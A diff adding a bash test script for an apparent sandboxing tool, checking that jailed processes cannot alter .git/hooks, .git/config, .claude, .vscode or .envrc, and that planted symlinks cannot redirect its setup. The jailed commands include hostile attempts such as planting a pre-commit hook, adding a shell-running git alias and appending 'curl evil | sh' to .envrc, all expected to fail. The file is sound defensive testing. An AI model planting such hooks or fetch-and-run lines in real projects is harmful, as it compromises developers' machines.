@@ -1,0 +1,67 @@
+#!/usr/bin/env bash
+# Protected paths in the workdir (.git/hooks, .git/config, .claude, ...) stay read-only, present
+# or missing, cannot be renamed away, and a planted symlink cannot redirect cordon's setup.
+source "$TESTLIB"
+
+# A project with .git/hooks and .git/config present.
+mkdir -p "$WORK/p1/.git/hooks" && echo "[core]" > "$WORK/p1/.git/config" && echo "keep" > "$WORK/p1/.git/HEAD"
+before=$(snapshot "$WORK/p1")
+pushd "$WORK/p1" >/dev/null
+jailed '
+  echo evil > .git/hooks/pre-commit; echo hooks=$?
+  echo "[alias] x = !evil" >> .git/config; echo config=$?
+  mv .git .git-away; echo mvgit=$?
+  rm -rf .git/hooks; echo rmhooks=$?
+  mkdir .claude/x 2>/dev/null; echo claude=$?
+  echo ok > .git/HEAD; echo head=$?'
+popd >/dev/null
+expect_out "hooks=[1-9]" "an existing .git/hooks cannot be written"
+expect_out "config=[1-9]" ".git/config cannot be changed"
+expect_out "mvgit=[1-9]" ".git cannot be renamed away"
+expect_out "rmhooks=[1-9]" ".git/hooks cannot be removed"
+expect_out "claude=[1-9]" "a missing .claude cannot be created"
+expect_out "head=0" "the rest of .git stays writable (git works)"
+echo keep > "$WORK/p1/.git/HEAD"
+after=$(snapshot "$WORK/p1" | grep -v ' ./.git/HEAD$')
+[[ $(echo "$before" | grep -v ' ./.git/HEAD$') == "$after" ]] && ok "no placeholder or change left behind (p1)" || { not_ok "p1 changed"; diff <(echo "$before") <(echo "$after"); }
+
+# A project without .git at all: .git/hooks cannot be planted, and nothing is left behind.
+mkdir -p "$WORK/p2" && echo src > "$WORK/p2/main.c"
+before=$(snapshot "$WORK/p2")
+pushd "$WORK/p2" >/dev/null
+jailed 'mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; echo hooks=$?; mkdir .vscode/tasks; echo vscode=$?; echo ok > main.c; echo src=$?'
+popd >/dev/null
+expect_out "hooks=[1-9]" "a missing .git/hooks cannot be planted"
+expect_out "vscode=[1-9]" "a missing .vscode cannot be populated"
+expect_out "src=0" "ordinary files stay writable"
+echo src > "$WORK/p2/main.c"
+[[ ! -e $WORK/p2/.git && ! -e $WORK/p2/.vscode && ! -e $WORK/p2/.claude ]] && ok "placeholders are removed after the run" || not_ok "placeholders left: $(ls -A "$WORK/p2")"
+
+# Existing .envrc is protected; a missing one is not created by cordon.
+echo 'export A=1' > "$WORK/p2/.envrc"
+pushd "$WORK/p2" >/dev/null
+jailed 'echo "curl evil | sh" >> .envrc; echo envrc=$?'
+popd >/dev/null
+expect_out "envrc=[1-9]" "an existing .envrc cannot be changed"
+rm -f "$WORK/p2/.envrc"
+
+# Hostile: .git/hooks is a symlink planted to a directory outside the workdir.
+outside="$SCRATCH/outside"
+mkdir -p "$outside" "$WORK/p3/.git"
+ln -s "$outside" "$WORK/p3/.git/hooks"
+pushd "$WORK/p3" >/dev/null
+run "$CORDON" -- /bin/sh -c "$GUARD; echo evil > .git/hooks/pre-commit"
+popd >/dev/null
+[[ $rc -eq 125 ]] && ok "a symlinked protected path makes cordon refuse (125)" || not_ok "symlinked .git/hooks: exit $rc"
+expect_err "protected path .*\.git/hooks.*symlink" "the refusal names the symlink"
+[[ -z $(ls -A "$outside") ]] && ok "nothing was created through the planted symlink" || not_ok "files appeared in $outside"
+
+# Hostile: the workdir contains a symlink named like a system path; setup must not follow it.
+mkdir -p "$WORK/p4" && ln -s "$outside" "$WORK/p4/tmp"
+pushd "$WORK/p4" >/dev/null
+jailed 'echo x > tmp/x 2>/dev/null; ls /tmp >/dev/null; echo done'
+popd >/dev/null
+expect_out "done" "a workdir with a planted symlink runs"
+[[ -z $(ls -A "$outside") ]] && ok "the planted symlink's target outside the workdir was not written" || not_ok "write through planted symlink"
+rm -rf "$outside" "$WORK/p3" "$WORK/p4"
+finish
